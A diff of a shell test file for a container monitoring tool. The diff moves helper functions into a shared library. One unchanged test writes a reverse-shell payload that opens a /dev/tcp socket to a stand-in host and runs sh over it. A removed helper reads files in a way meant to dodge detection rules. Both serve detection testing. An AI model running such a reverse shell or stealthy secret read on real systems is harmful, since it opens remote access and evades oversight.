@@ -16,6 +16,7 @@ teardown_file() {
 
 setup() {
 	load ../lib/common
+	load ../lib/watched
 	cd "$T/ws"
 	A=$HOME/.coi/audit
 	settings true true
@@ -24,38 +25,6 @@ setup() {
 settings() { # PAUSE KILL
 	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = true\nauto_pause_on_high = %s\nauto_kill_on_critical = %s\n' \
 		"$1" "$2" >"$HOME/.coi/config.toml"
-}
-
-launch() { # NAME
-	coi container launch coi-default "$1" 2>"$T/launch.err" || { cat "$T/launch.err"; return 1; }
-}
-
-gone() {
-	coi container delete --force "$1" >/dev/null 2>&1 || true
-}
-
-inside() { # NAME COMMAND...
-	"$COI" container exec "$1" -- "${@:2}"
-}
-
-has() { # FILE JQ-CONDITION
-	jq -e "select($2)" "$1" 2>/dev/null | grep -q .
-}
-
-count() { # FILE JQ-CONDITION
-	jq -c "select($2)" "$1" | wc -l
-}
-
-running() {
-	coi container running "$1"
-}
-
-pid_of() { # NAME KEY: a number of its record
-	sed -n "s/^$2 *= *\([0-9]*\).*/\1/p" "$COI_ROOT/containers/$1/container.ini"
-}
-
-watcher_of() { # NAME: pid
-	ps -eo pid=,ppid=,comm= | awk -v s="$(pid_of "$1" supervisor)" '$2 == s && $3 == "coi-watch" { print $1 }'
 }
 
 @test "each program that runs is in the record, with words, numbers and the file behind it" {
@@ -137,10 +106,6 @@ watcher_of() { # NAME: pid
 	gone k1
 }
 
-not_running() {
-	! coi container running "$1" 2>/dev/null
-}
-
 @test "a shell on a socket is found whatever is written anywhere" {
 	launch k2
 	printf 'exec 3<>/dev/tcp/public.test/80\nsh <&3 >&3 2>&3\n' >"$T/ws/x"
@@ -174,10 +139,6 @@ not_running() {
 	coi unfreeze f1
 	wait "$pid"
 	gone f1
-}
-
-frozen() {
-	[ "$(coi container list --format json | jq -r --arg n "$1" '.[] | select(.name == $n).status')" = Frozen ]
 }
 
 @test "warnings are recorded once in a while, and nothing is stopped by them" {
@@ -440,10 +401,6 @@ read_told() { # COUNT: so often it was told in all
 }
 
 # As a person's tool would: no program that a rule knows, nothing on the command line.
-read_quietly() { # NAME FILE
-	inside "$1" bash -c 'f=$1; exec 3<"$f"; read -r x <&3' x "$2"
-}
-
 secrets_are_seen() { # NAME BACKEND
 	settings false false
 	coi container launch coi-default "$1"
